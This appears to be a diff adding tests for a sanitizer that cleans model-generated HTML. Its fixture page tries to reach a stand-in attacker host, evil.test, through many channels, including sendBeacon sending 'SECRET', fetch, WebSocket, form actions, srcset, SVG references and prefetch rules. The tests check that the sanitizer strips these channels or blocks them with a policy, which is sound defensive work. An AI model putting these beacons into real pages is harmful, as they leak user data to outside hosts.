@@ -103,3 +103,85 @@ def test_empty_answer() -> None:
 def test_gibberish_from_the_tiny_model_never_crashes() -> None:
     for text in ["}!htmzFTX<\x05", "<<<>>></div></html", "```html\n", "<html", "<!--"]:
         assert clean_model_output(text).html.startswith("<!DOCTYPE html>")
+
+
+HOSTILE = """<!DOCTYPE html><html><head><title>Offers</title>
+<meta http-equiv="refresh" content="5;url=http://{h}/refresh">
+<base href="http://{h}/">
+<link rel="preconnect" href="http://{h}/">
+<style>.hero {{ background-image: image-set("http://{h}/set1.png" 1x, url(http://{h}/set2.png) 2x);
+  height: 40px }}
+.badge {{ background: -webkit-image-set(url('http://{h}/webkit.png') 1x) }}</style>
+<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://{h}/spec"]}}]}}
+</script>
+</head><body>
+<div class="hero"></div><span class="badge">new</span>
+<picture><source srcset="http://{h}/pic.webp 1x, http://{h}/pic2.webp 2x">
+<img alt="" width="40" height="30" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="
+ srcset="http://{h}/img2x.png 2x"></picture>
+<video src="data:video/mp4;base64,AAAA" poster="http://{h}/poster.jpg"></video>
+<svg width="40" height="40"><image href="http://{h}/svg.png" width="20" height="20"/>
+<image xlink:href="http://{h}/svgx.png" width="20" height="20"/>
+<rect fill="url(http://{h}/paint.svg#g)" width="5" height="5"/><use href="http://{h}/sprite.svg#i"/>
+</svg>
+<iframe srcdoc="<img src='http://{h}/srcdoc.png'><iframe srcdoc=&quot;<img src='http://{h}/deep.png'>&quot;></iframe>"></iframe>
+<a href="#top" ping="http://{h}/ping" id="top">top</a>
+<table background="http://{h}/table.png"><tr><td>1</td></tr></table>
+<form action="http://{h}/form"><input name="q" value="SECRET"><button formaction="http://{h}/f2">go</button></form>
+<script>
+navigator.sendBeacon('http://{h}/beacon', 'SECRET');
+fetch('http://{h}/fetch').catch(() => {{}});
+new Image().src = 'http://{h}/image';
+try {{ new WebSocket('ws://{h}/ws'); }} catch (e) {{}}
+document.getElementById('top').click();
+</script>
+</body></html>"""
+
+
+def test_a_hostile_answer_keeps_no_live_reference() -> None:
+    out = clean_model_output(HOSTILE.format(h="evil.test:81"))
+    kept = [m.group(0) for m in re.finditer(r"evil\.test[^\s\"'<>)]*", out.html)]
+    # what is left is script text, and the page's policy refuses every request a script makes
+    assert all(kept_in_script for kept_in_script in (
+        any(k in (s.string or "") for s in BeautifulSoup(out.html, "html.parser")("script"))
+        for k in kept)), kept
+    for change in ["removed 1 external speculation rule", "removed 2 external image source sets",
+                   "removed 1 external ping", "removed 2 external form targets",
+                   "removed 1 external SVG reference", "removed 2 external other references",
+                   "replaced 2 external images with placeholders", "in a frame's inline document",
+                   "a script uses WebSocket, fetch, new Image, sendBeacon",
+                   "added a Content Security Policy"]:
+        assert any(c.startswith(change) or change in c for c in out.changes), (change, out.changes)
+    head = BeautifulSoup(out.html, "html.parser").head
+    assert head is not None and head.find(True).get("http-equiv") == "Content-Security-Policy"
+
+
+def test_the_exported_page_reaches_nothing_in_a_plain_browser() -> None:
+    """Opened in a browser with no sandbox of ShotClone's, the raw answer reaches the canary
+    (the control); the cleaned page, carrying its own policy, reaches nothing."""
+    from tests.app.canary import Canary, open_in_plain_browser
+
+    raw, clean = Canary(), Canary()
+    try:
+        open_in_plain_browser(HOSTILE.format(h=f"127.0.0.1:{raw.port}"), raw,
+                              expect_contact=True)
+        page = clean_model_output(HOSTILE.format(h=f"127.0.0.1:{clean.port}")).html
+        open_in_plain_browser(page, clean, expect_contact=False)
+        assert raw.touched
+        assert not clean.touched, clean.seen
+    finally:
+        raw.close()
+        clean.close()
+
+
+def test_safe_references_stay() -> None:
+    dot = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
+    page = (f'<html><body><img src="{dot}" srcset="{dot} 1x, {dot} 2x">'
+            f'<div style="background:image-set(url({dot}) 1x)"></div>'
+            '<a href="https://example.test/docs">docs</a><svg><use href="#icon"/></svg>'
+            '</body></html>')
+    out = clean_model_output(page)
+    assert f'srcset="{dot} 1x, {dot} 2x"' in out.html
+    assert f"image-set(url({dot}) 1x)" in out.html
+    assert 'href="https://example.test/docs"' in out.html and 'href="#icon"' in out.html
+    assert not [c for c in out.changes if "external" in c], out.changes
